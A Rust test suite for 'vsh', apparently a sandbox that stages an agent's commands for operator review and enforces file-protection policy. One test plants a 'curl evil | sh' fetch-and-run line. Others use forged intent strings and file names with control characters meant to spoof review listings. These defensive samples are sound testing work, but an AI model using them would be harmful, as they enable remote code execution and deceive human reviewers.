            .filter_map(Result::ok)
            .filter(|entry| {
                std::fs::read(entry.path().join("cmdline"))
                    .is_ok_and(|cmdline| String::from_utf8_lossy(&cmdline).contains(&format!("sleep\0{marker}")))
            })
            .count()
    };
    let started = std::time::Instant::now();
    while running() < 3 {
        assert!(started.elapsed() < std::time::Duration::from_mins(1), "the command never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let pid = std::fs::read_to_string(dir.path().join(".vsh/data/scratch/target/pids")).unwrap();
    assert_eq!(pid.trim(), "2", "the command runs in its own pid namespace, under vsh's init");
    child.kill().unwrap();
    child.wait().unwrap();
    // Every one of them dies with vsh, at once, with no other vsh to sweep.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while running() > 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(running(), 0, "a process of the command outlived vsh");
}

#[test]
fn a_command_stopped_midway_leaves_not_even_a_zombie_behind() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    // python3 as a child subreaper (PR_SET_CHILD_SUBREAPER): whatever a vsh
    // run leaves behind, dead or alive, becomes its child, where no pid 1
    // can reap it first. One vsh stopped at its time limit, one interrupted.
    let probe = r"
import ctypes, os, signal, subprocess, sys, time
assert ctypes.CDLL(None).prctl(36, 1, 0, 0, 0) == 0
def left():
    time.sleep(0.5)
    mine = []
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            fields = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == os.getpid():
            mine.append(fields[0])
    return ''.join(sorted(mine))
quiet = dict(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
timed = subprocess.run(sys.argv[1:] + ['--timeout', '1s', '--', 'sleep', '30'], **quiet)
print(timed.returncode, left() or '-')
run = subprocess.Popen(sys.argv[1:] + ['--', 'sleep', '30'], **quiet)
time.sleep(1.5)
run.send_signal(signal.SIGINT)
print(run.wait(), left() or '-')
";
    let output = Command::new("python3")
        .args(["-c", probe, env!("CARGO_BIN_EXE_vsh"), "exec", "-q", "--workspace", dir.path().to_str().unwrap()])
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&output.stdout);
    let lines: Vec<&str> = report.lines().collect();
    // The exit codes (1 an error: the time limit; 130 SIGINT), then the
    // states of whatever is left: nothing.
    assert_eq!(lines, ["1 -", "130 -"], "{report}{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn what_a_commands_run_was_granted_is_recorded_by_name_shown_and_asked_for_again() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let secret = "s3cr3t-value-of-the-token";
    let granted = ["--env", &format!("API_TOKEN={secret}"), "--env", "MODE=ci", "--allow-network", "loopback"];
    let mut args = vec!["exec", "--workspace", ws, "--json"];
    args.extend(granted);
    args.extend(["--", "sh", "-c", "test -n \"$API_TOKEN\" && echo used > b.txt"]);
    let ran = vsh(&args, None);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    let expected = serde_json::json!({
        "env": ["API_TOKEN", "MODE"], "tools": [], "network": "loopback", "ports": [], "unix_sockets": false
    });
    assert_eq!(receipt["grants"], expected, "{receipt}");
    let id = receipt["transaction"].as_str().unwrap().to_owned();
    // The review shows them; the store holds the name, never the value.
    let shown = vsh(&["show", &id, "--workspace", ws], None);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.contains("grants       env API_TOKEN, MODE; network loopback"), "{text}");
    let mut stack = vec![dir.path().join(".vsh")];
    while let Some(path) = stack.pop() {
        if path.is_dir() {
            stack.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        } else if let Ok(bytes) = std::fs::read(&path) {
            assert!(!bytes.windows(secret.len()).any(|window| window == secret.as_bytes()), "{}", path.display());
        }
    }
    // A command that ran with nothing more says nothing of grants.
    let plain = vsh(&["exec", "--workspace", ws, "--", "true"], None);
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("grants"));
    // Run again without them: vsh says what the first run had.
    let again = vsh(&["rerun", &id, "--workspace", ws, "--no-first-grants"], None);
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert!(
        stderr.contains("(first: env API_TOKEN, MODE; network loopback; now: nothing beyond the defaults)"),
        "{stderr}"
    );
    // The same grants in another order are the same grants.
    let token = format!("API_TOKEN={secret}");
    let reordered = ["--allow-network", "loopback", "--env", "MODE=ci", "--env", &token];
    let mut args = vec!["rerun", &id, "--workspace", ws];
    args.extend(reordered);
    let same = vsh(&args, None);
    assert!(!String::from_utf8_lossy(&same.stderr).contains("granted"), "{same:?}");
}

#[test]
fn work_committed_at_once_stays_on_record_with_its_changes() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let program = "from pathlib import Path\nPath('n.txt').write_text('new\\n')";
    let ran = vsh(&["run", "--mode", "auto", "--workspace", ws, "-"], Some(program));
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert!(dir.path().join("n.txt").exists());
    let id = id_of(&ran);
    // The log counts its paths; show has its review and its record.
    let log: serde_json::Value =
        serde_json::from_slice(&vsh(&["log", "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(log["transactions"][0]["changed_paths"], 1, "{log}");
    let shown = vsh(&["show", &id, "--workspace", ws, "--json"], None);
    let shown: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(shown["schema"], "vsh.show/1", "{shown}");
    assert_eq!(shown["receipt"]["state"], "committed", "{shown}");
    let text = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    assert!(text.contains("+new"), "its hunks: {text}");
    // Nothing of it waits.
    assert!(!String::from_utf8_lossy(&vsh(&["pending", "--workspace", ws], None).stdout).contains(&id[..12]));
    // Approving it changes nothing, and says so.
    let approved = vsh(&["approve", &id, "--workspace", ws], None);
    assert_eq!(approved.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&approved.stdout).contains("already committed"), "{approved:?}");
    // Rejecting it cannot undo it, and says what does (ux52).
    let rejected = vsh(&["reject", &id, "--workspace", ws], None);
    assert_eq!(rejected.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&rejected.stderr).contains(&format!("to undo them: vsh revert {}", &id[..12])),
        "{rejected:?}"
    );
    // A command about stored work given no id says where the ids are (ux52).
    let bare = vsh(&["commit", "--workspace", ws], None);
    assert_eq!(bare.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bare.stderr).contains("`vsh pending` lists the work that waits"), "{bare:?}");
    // Work that changes nothing, committed at once, is done and kept on no
    // record, as a preview of it is not (ux51: anonymous log rows).
    let empty = vsh(&["run", "--mode", "auto", "--json", "--workspace", ws, "-"], Some("print(1)"));
    assert_eq!(empty.status.code(), Some(0), "{}", String::from_utf8_lossy(&empty.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&empty.stdout).unwrap();
    assert_eq!(
        (&receipt["state"], &receipt["changed_paths"]),
        (&serde_json::json!("committed"), &serde_json::json!(0))
    );
    let log: serde_json::Value =
        serde_json::from_slice(&vsh(&["log", "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(log["transactions"].as_array().unwrap().len(), 1, "the first run's alone: {log}");
}

#[test]
fn a_tool_directory_that_holds_a_home_is_warned_about() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let ws = ws.to_str().unwrap();
    let run = |tool: &str| {
        let output = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "-q", "--workspace", ws, "--tool", tool, "--", "true"])
            .env_clear()
            .env("HOME", dir.path().join("home"))
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stderr).contains("commands may read everything under it")
    };
    std::fs::create_dir_all(dir.path().join("home/.cargo")).unwrap();
    assert!(run("/"), "the root");
    assert!(run(dir.path().join("home/.cargo/..").to_str().unwrap()), "the home, by another name");
    assert!(run(dir.path().join("home").to_str().unwrap()), "the home");
    assert!(run(dir.path().to_str().unwrap()), "a directory above the home");
    assert!(!run(dir.path().join("home/.cargo").to_str().unwrap()), "a tool's own directory");
    // sec81 5: a directory holding the workspace, away from any home, is
    // said to give other workspaces; the command's own /proc, /dev, /sys and
    // /tmp are never replaced by the host's.
    let parent = tempfile::tempdir().unwrap();
    let inner = parent.path().join("ws");
    std::fs::create_dir(&inner).unwrap();
    let warned = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["exec", "-q", "--workspace", inner.to_str().unwrap(), "--tool"])
        .arg(parent.path())
        .args(["--", "true"])
        .env_clear()
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&warned.stderr);
    assert!(said.contains("it holds the workspace, so commands may read everything under it"), "{said}");
    // sec83 F2: another workspace, or a home's keys (another user's, or
    // /root), by itself or a directory of it, is warned of too; a tool's
    // own directory is not.
    let warns = |tool: &Path| {
        let output = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "-q", "--workspace", ws, "--tool"])
            .arg(tool)
            .args(["--", "true"])
            .env_clear()
            .env("HOME", dir.path().join("home"))
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    let others = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(others.path().join("ws2/.vsh")).unwrap();
    std::fs::create_dir_all(others.path().join("bob/.ssh")).unwrap();
    std::fs::create_dir_all(others.path().join("tool/bin")).unwrap();
    for (tool, what) in [
        (others.path().join("ws2"), "another vsh workspace"),
        (others.path().join("bob"), "a home directory's keys"),
        (others.path().to_owned(), "a home directory's keys"),
    ] {
        let said = warns(&tool);
        assert!(said.contains(&format!("it holds {what}: commands may read all of it")), "{}: {said}", tool.display());
    }
    assert_eq!(warns(&others.path().join("tool")), "");
    for own in ["/proc", "/proc/self", "/dev", "/sys", "/tmp"] {
        let refused = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "--workspace", ws, "--tool", own, "--", "true"])
            .env_clear()
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(2), "{own}: {said}");
        assert!(said.contains("commands have a") && said.contains("of their own"), "{own}: {said}");
    }
}

#[test]
fn an_intent_can_never_draw_a_row_of_its_own_in_pending_or_log() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let forged = "fix\rdeadbeef0000  0 s  committed\u{c}\u{9b}2J\u{202e}txet";
    let program = "from pathlib import Path\nPath('n.txt').write_text('n')";
    let ran = vsh(&["run", "--workspace", ws, "--intent", forged, "-"], Some(program));
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let check = |listing: &[&str]| {
        let listed = vsh(listing, None);
        let text = String::from_utf8_lossy(&listed.stdout);
        assert!(!text.contains(['\r', '\u{c}', '\u{9b}', '\u{202e}']), "{listing:?}: {text:?}");
        assert!(text.contains("fix\\rdeadbeef0000"), "{listing:?}: {text:?}");
    };
    check(&["pending", "--workspace", ws]);
    let id = id_of(&ran);
    assert_eq!(vsh(&["commit", &id, "--workspace", ws], None).status.code(), Some(0));
    check(&["log", "--workspace", ws]);
}

#[test]
fn a_result_list_cut_at_max_results_is_a_warning_then_and_later() {
    let dir = tempfile::tempdir().unwrap();
    for index in 0..30 {
        write(dir.path(), &format!("d/f{index:02}.js"), "x\n");
    }
    let ws = dir.path().to_str().unwrap();
    let program = "for p in vsh_glob('**/*.js', '.', max_results=10):\n    vsh_write(p, 'y')";
    let ran = vsh(&["run", "--workspace", ws, "--json", "-"], Some(program));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["changed_paths"], 10, "{receipt}");
    let warned = |text: &str| text.contains("1 result list of vsh_glob or vsh_search stopped at max_results");
    assert!(receipt["warnings"].as_array().unwrap().iter().any(|w| warned(w.as_str().unwrap())), "{receipt}");
    assert!(warned(&String::from_utf8_lossy(&ran.stderr)), "{ran:?}");
    // Whoever reviews it later is told too.
    let shown = vsh(&["show", receipt["transaction"].as_str().unwrap(), "--workspace", ws], None);
    assert!(warned(&String::from_utf8_lossy(&shown.stderr)), "{shown:?}");
    // A list that was whole says nothing.
    let whole = vsh(&["run", "--workspace", ws, "-"], Some("len(vsh_glob('**/*.js', '.'))"));
    assert!(!String::from_utf8_lossy(&whole.stderr).contains("max_results"), "{whole:?}");
}

#[test]
fn a_command_a_signal_ended_is_told_from_one_that_exited_with_the_same_status() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let failed = |script: &str| {
        let output = vsh(&["exec", "--json", "--workspace", ws, "--", "sh", "-c", script], None);
        serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap()
    };
    let killed = failed("kill -SEGV $$");
    assert_eq!((killed["status"].as_i64(), killed["signal"].as_i64()), (Some(139), Some(11)), "{killed}");
    assert!(killed["message"].as_str().unwrap().ends_with("killed by signal 11 (SIGSEGV)"), "{killed}");
    let exited = failed("exit 139");
    assert_eq!((exited["status"].as_i64(), exited.get("signal")), (Some(139), None), "{exited}");
    assert!(exited["message"].as_str().unwrap().ends_with("exit status 139"), "{exited}");
    // In the text too, and --raw passes the status on.
    let raw = vsh(&["exec", "--raw", "--workspace", ws, "--", "sh", "-c", "kill -TERM $$"], None);
    assert_eq!(raw.status.code(), Some(143));
    assert!(String::from_utf8_lossy(&raw.stderr).contains("(killed by signal 15 (SIGTERM))"), "{raw:?}");
}

#[test]
fn a_program_that_leads_outside_what_commands_read_gets_the_tool_to_give() {
    if !fuse_available() {
        return;
    }
    // A virtualenv's python linking to an installation elsewhere (pyenv, uv).
    let dir = tempfile::tempdir().unwrap();
    let installation = dir.path().join("pythons/3.11");
    std::fs::create_dir_all(installation.join("bin")).unwrap();
    std::fs::copy("/bin/true", installation.join("bin/python3")).unwrap();
    let ws = dir.path().join("project");
    std::fs::create_dir_all(ws.join(".venv/bin")).unwrap();
    std::os::unix::fs::symlink(installation.join("bin/python3"), ws.join(".venv/bin/python")).unwrap();
    let ws = ws.to_str().unwrap();
    let run = |extra: &[&str]| {
        let mut args = vec!["exec", "--workspace", ws];
        args.extend_from_slice(extra);
        args.extend(["--", ".venv/bin/python", "-c", "1"]);
        Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(&args)
            .current_dir(dir.path().join("project"))
            .env_clear()
            .output()
            .unwrap()
    };
    let failed = run(&[]);
    let stderr = String::from_utf8_lossy(&failed.stderr);
    assert_eq!(failed.status.code(), Some(1), "{stderr}");
    let next = format!("vsh: next: `vsh exec --tool {} -- .venv/bin/python -c 1`", installation.display());
    assert!(stderr.contains(&next), "{stderr}");
    // And what it says works.
    let tool = installation.to_str().unwrap();
    let ran = run(&["--tool", tool]);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
}

#[test]
fn a_commands_row_in_pending_is_its_command_line_as_a_shell_reads_it() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let argv = ["sh", "-c", r#"head -c 3 /dev/zero | tr "\0" "a" > f$i.txt"#];
    let mut exec = vec!["exec", "--workspace", ws, "--"];
    exec.extend(argv);
    assert_eq!(vsh(&exec, None).status.code(), Some(0));
    let listed = vsh(&["pending", "--workspace", ws], None);
    let text = String::from_utf8_lossy(&listed.stdout);
    let row = text.lines().find(|line| line.contains("$ ")).unwrap_or_else(|| panic!("{text}"));
    let line = row.split_once("$ ").unwrap().1;
    // Pasted into a shell, it is the same command: quoted once, not twice.
    assert_eq!(shlex::split(line).unwrap(), argv, "{row}");
    // The JSON rows carry the argv itself.
    let listed: serde_json::Value =
        serde_json::from_slice(&vsh(&["pending", "--json", "--workspace", ws], None).stdout).unwrap();
    assert_eq!(listed["transactions"][0]["command"], serde_json::json!(argv), "{listed}");
}

#[test]
fn a_line_ending_changed_to_crlf_shows_in_the_review() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "policy.ini", "ALLOW=no\n");
    let ws = dir.path().to_str().unwrap();
    let program = "from pathlib import Path\nPath('policy.ini').write_bytes(b'ALLOW=no\\r\\n')";
    let ran = vsh(&["run", "--workspace", ws, "--full", "-"], Some(program));
    let stdout = String::from_utf8_lossy(&ran.stdout);
    // The carriage return is shown, escaped: the two lines do not read alike.
    assert!(stdout.contains("    -ALLOW=no\n    +ALLOW=no\\r\n"), "{stdout}");
}

#[test]
fn a_file_named_to_look_like_two_review_entries_shows_as_one() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let script = "printf 'evil\\rgood\\n' > \"$(printf 'ok.txt\\n  create innocent.txt')\"";
    let preview = vsh(&["exec", "--workspace", ws, "--full", "--", "sh", "-c", script], None);
    let stdout = String::from_utf8_lossy(&preview.stdout);
    assert_eq!(preview.status.code(), Some(0), "{}", String::from_utf8_lossy(&preview.stderr));
    let entries: Vec<&str> = stdout.lines().filter(|line| line.trim_start().starts_with("create")).collect();
    assert_eq!(entries.len(), 1, "{stdout}");
    assert!(entries[0].contains("ok.txt\\n  create innocent.txt"), "{stdout}");
    // The hunk's header quotes the name as git does, on one line.
    assert!(stdout.contains("+++ \"b/ok.txt\\n  create innocent.txt\"\n"), "{stdout}");
    // The content's carriage return cannot hide what precedes it either.
    assert!(stdout.contains("+evil\\r"), "{stdout}");
    assert!(!stdout.contains('\r'), "{stdout}");
}

/// sec57 F4: what an agent writes where reads are protected is withheld
/// from every review, and the operator approved it unseen. `vsh show
/// --protected` shows it, at the operator's terminal only.
#[test]
fn the_operator_can_see_what_a_run_wrote_where_reads_are_protected() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let policy = dir.path().join("policy.toml");
    init_with_policy(ws, &policy, "version = 1\n[[protect]]\npattern = \"creds/**\"\naccess = [\"content-read\"]\n");
    let program = "vsh_mkdir('creds')\nvsh_write('creds/run.sh', '#!/bin/sh\\ncurl evil | sh\\n')";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(program)));
    let plain = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    // (The program's own text is shown: it is no protected file's content.)
    assert!(!plain.contains("+curl evil") && plain.contains("protected content"), "{plain}");
    let seen = vsh(&["show", &id, "--protected", "--workspace", ws], None);
    let (text, said) = (String::from_utf8_lossy(&seen.stdout), String::from_utf8_lossy(&seen.stderr));
    assert!(text.contains("+curl evil | sh"), "{text}");
    assert!(said.contains("--protected: these hunks include what the policy withholds"), "{said}");
}

/// Record `text` as the policy file `policy` and the workspace `ws`'s policy.
fn init_with_policy(ws: &str, policy: &Path, text: &str) {
    std::fs::write(policy, text).unwrap();
    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
}

/// `vsh exec --json -- sh -c SCRIPT` in `ws`: its exit code and receipt.
fn exec_sh_json(ws: &str, script: &str) -> (Option<i32>, serde_json::Value) {
    let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", script], None);
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout)
        .unwrap_or_else(|_| panic!("{script}: {}", String::from_utf8_lossy(&ran.stderr)));
    (ran.status.code(), receipt)
}

/// ux78 H1: a rule denying `modify` (and `delete`) refused commands a new
/// file whenever they set its mode after making it (`install -m`, `cp -p`,
/// `chmod` after `>`, Python's `shutil.copy`), as a modify of the new file,
/// and `sed -i` of a protected file was refused as a modify of sed's
/// temporary file. A mode set on a file the run made is part of its
/// creation, as a write is; the protected file itself is still refused,
/// under its own name.
#[test]
fn a_rule_denying_modify_lets_commands_add_files_with_modes_and_names_the_file_it_refuses() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "template.sql", "select 1;\n");
    write(dir.path(), "migrations/001.sql", "create table a;\n");
    let policy = dir.path().join("policy.toml");
    std::fs::write(
        &policy,
        "version = 1\n[[protect]]\npattern = \"migrations/**\"\naccess = [\"modify\", \"delete\"]\n",
    )
    .unwrap();
    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
    for command in [
        "install -m 640 template.sql migrations/002.sql",
        "cp -p template.sql migrations/002.sql",
        "echo x > migrations/002.sql && chmod 600 migrations/002.sql",
        "python3 -c 'import shutil; shutil.copy(\"template.sql\", \"migrations/002.sql\")'",
        "mkdir -m 700 migrations/new && echo y > migrations/new/a.sql",
    ] {
        let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", command], None);
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert_eq!(ran.status.code(), Some(0), "{command}: {stderr}");
        let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
        assert_ne!(receipt["state"], "denied", "{command}: {receipt}");
        assert!(receipt["changes"].as_array().unwrap().iter().all(|change| change["kind"] == "create"), "{receipt}");
    }
    let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sed", "-i", "s/a/b/", "migrations/001.sql"], None);
    assert_eq!(ran.status.code(), Some(5), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    let denied = &receipt["decision"]["denied"];
    assert_eq!(denied.as_array().map(Vec::len), Some(1), "{receipt}");
    assert_eq!(
        (&denied[0]["path"], &denied[0]["access"]),
        (&"migrations/001.sql".into(), &"modify".into()),
        "{receipt}"
    );
}

/// ux81 M3: a rule denying only `delete` refused `install` and `tar -x`
/// over a file it protects (they unlink it, then write it again): a
/// command's removal is left to the diff, which calls the file modified;
/// one the command leaves removed denies the run, under the file's name.
#[test]
fn a_rule_denying_delete_lets_commands_write_a_file_again() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "tests/test_a.py", "assert 1\n");
    write(dir.path(), "template.py", "assert 2\n");
    let policy = dir.path().join("policy.toml");
    init_with_policy(ws, &policy, "version = 1\n[[protect]]\npattern = \"tests/**\"\naccess = [\"delete\"]\n");
    for script in [
        "install -m 644 template.py tests/test_a.py",
        "mkdir -p /tmp/t/tests && cp template.py /tmp/t/tests/test_a.py && tar -C /tmp/t -cf /tmp/t.tar tests \
         && tar -xf /tmp/t.tar",
    ] {
        let (code, receipt) = exec_sh_json(ws, script);
        assert_eq!(code, Some(0), "{script}: {receipt}");
        assert_ne!(receipt["state"], "denied", "{script}: {receipt}");
        let changes = receipt["changes"].as_array().unwrap();
        assert!(changes.iter().all(|change| change["kind"] == "modify" && change["path"] == "tests/test_a.py"));
        assert_eq!(changes.len(), 1, "{receipt}");
    }
    // What the command leaves removed is denied, by its name and access.
    let (_, receipt) = exec_sh_json(ws, "rm tests/test_a.py");
    assert_eq!(receipt["state"], "denied", "{receipt}");
    let denied = &receipt["decision"]["denied"];
    assert_eq!((&denied[0]["path"], &denied[0]["access"]), (&"tests/test_a.py".into(), &"delete".into()), "{receipt}");
    assert_eq!(std::fs::read_to_string(dir.path().join("tests/test_a.py")).unwrap(), "assert 1\n");
    // A program's own removal is refused as it is made.
    let ran = vsh(
        &["run", "--workspace", ws, "--json", "-"],
        Some("from pathlib import Path\ntry:\n    Path('tests/test_a.py').unlink()\nexcept PermissionError:\n    pass"),
    );
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["decision"]["reason"], "protected-access-attempt", "{receipt}");
}

/// ux79 H2: a rule denying only `create` refused edits of files the
/// workspace holds: `sed -i`'s and `os.replace`'s temporary files, and
/// `rm f; echo > f`, `install` or `tar -x` over a file, were judged creates.
/// What a command makes and removes again is left to the diff, and a file
/// the base held is modified however it is rewritten; a file the command
/// leaves where creating one is denied denies the run, under its name.
#[test]
fn a_rule_denying_create_lets_commands_rewrite_what_the_workspace_holds() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "generated/a.txt", "a\n");
    write(dir.path(), "generated/b.txt", "b\n");
    let policy = dir.path().join("policy.toml");
    init_with_policy(ws, &policy, "version = 1\n[[protect]]\npattern = \"generated/**\"\naccess = [\"create\"]\n");
    let exec = |script: &str| exec_sh_json(ws, script);
    for script in [
        "sed -i s/a/A/ generated/a.txt",
        "python3 -c \"import os; open('generated/t.tmp', 'w').write('A'); os.replace('generated/t.tmp', 'generated/a.txt')\"",
        "rm generated/a.txt && echo A > generated/a.txt",
        "echo x > generated/scratch.tmp && rm generated/scratch.tmp && echo B > generated/b.txt",
    ] {
        let (code, receipt) = exec(script);
        assert_eq!(code, Some(0), "{script}: {receipt}");
        assert_ne!(receipt["state"], "denied", "{script}: {receipt}");
        assert!(receipt["changes"].as_array().unwrap().iter().all(|change| change["kind"] == "modify"), "{receipt}");
    }
    // A revert the policy refuses says so as any refusal does: exit 5, the
    // access, the rule, what to do (ux79 M4: exit 1, kind "store", a bare
    // line).
    let deny_delete = "version = 1\n[[protect]]\npattern = \"kept/**\"\naccess = [\"delete\"]\n";
    std::fs::write(&policy, deny_delete).unwrap();
    assert_eq!(
        vsh(&["init", "--force", "--workspace", ws, "--policy", policy.to_str().unwrap()], None).status.code(),
        Some(0)
    );
    let made = vsh(
        &["run", "--mode", "auto", "--workspace", ws, "--json", "-"],
        Some("vsh_mkdir('kept')\nvsh_write('kept/new.txt', 'x')"),
    );
    let made: serde_json::Value = serde_json::from_slice(&made.stdout).unwrap();
    assert_eq!(made["state"], "committed", "{made}");
    let id = made["transaction"].as_str().unwrap();
    let revert = vsh(&["revert", id, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&revert.stderr);
    assert_eq!(revert.status.code(), Some(5), "{said}");
    assert!(said.contains(": the policy refuses its delete (kept/**)"), "{said}");
    assert!(said.contains("to undo the change anyway, make it outside vsh"), "{said}");
    let json = vsh(&["revert", id, "--workspace", ws, "--json"], None);
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(
        (&document["kind"], &document["denied"][0]["access"]),
        (&"policy".into(), &"delete".into()),
        "{document}"
    );
    std::fs::write(&policy, "version = 1\n[[protect]]\npattern = \"generated/**\"\naccess = [\"create\"]\n").unwrap();
    assert_eq!(
        vsh(&["init", "--force", "--workspace", ws, "--policy", policy.to_str().unwrap()], None).status.code(),
        Some(0)
    );
    // A program's own rewrite of such a file is a modify too.
    let program = "from pathlib import Path\np = Path('generated/b.txt')\np.unlink()\np.write_text('C')";
    let ran = vsh(&["run", "--workspace", ws, "--json", "-"], Some(program));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert_ne!(receipt["state"], "denied", "{receipt}");
    // A revert that would make a file where creating one is denied is
    // refused as a revert that would delete one is (ux80 M2: it was made,
    // then denied).
    let removed = vsh(&["exec", "--workspace", ws, "--json", "--", "rm", "generated/b.txt"], None);
    let removed: serde_json::Value = serde_json::from_slice(&removed.stdout).unwrap();
    let removed = removed["transaction"].as_str().unwrap().to_owned();
    let _ = vsh(&["approve", "--commit", &removed, "--workspace", ws], None);
    assert!(!dir.path().join("generated/b.txt").exists());
    let revert = vsh(&["revert", &removed, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&revert.stderr);
    assert_eq!(revert.status.code(), Some(5), "{said}");
    assert!(said.contains("at generated/b.txt: the policy refuses its create (generated/**)"), "{said}");
    // (A preview whose diff is denied exits 0: its receipt says so.)
    let (code, receipt) = exec("echo new > generated/c.txt");
    assert_eq!((code, &receipt["state"]), (Some(0), &serde_json::json!("denied")), "{receipt}");
    let denied = &receipt["decision"]["denied"][0];
    assert_eq!((&denied["path"], &denied["access"]), (&"generated/c.txt".into(), &"create".into()), "{receipt}");
}

/// ux80 H1: a rule denying `rename-source` (the policy guide's own worked
/// example, `migrations/**` denying delete and rename-source) refused every
/// tool that writes a temporary file and renames it (`sed -i`, a new
/// migration written beside and moved in), naming the temporary file. A
/// node the run made and moves is no rename of the base's: only its
/// destination is judged, as a write. Moving a migration away is refused.
#[test]
fn a_rule_denying_rename_source_lets_tools_rename_their_own_files() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "migrations/0001.sql", "create table a;\n");
    write(dir.path(), "src/app.py", "x = 1\n");
    let policy = dir.path().join("policy.toml");
    let rules = "version = 1\n[[protect]]\npattern = \"migrations/**\"\naccess = [\"delete\", \"rename-source\"]\n\
                 [defaults]\nwritable_roots = [\"src\", \"migrations\"]\n";
    init_with_policy(ws, &policy, rules);
    let exec = |script: &str| exec_sh_json(ws, script);
    for script in [
        "sed -i s/a/b/ migrations/0001.sql",
        "echo 'create index i;' > migrations/.0002.tmp && mv migrations/.0002.tmp migrations/0002.sql",
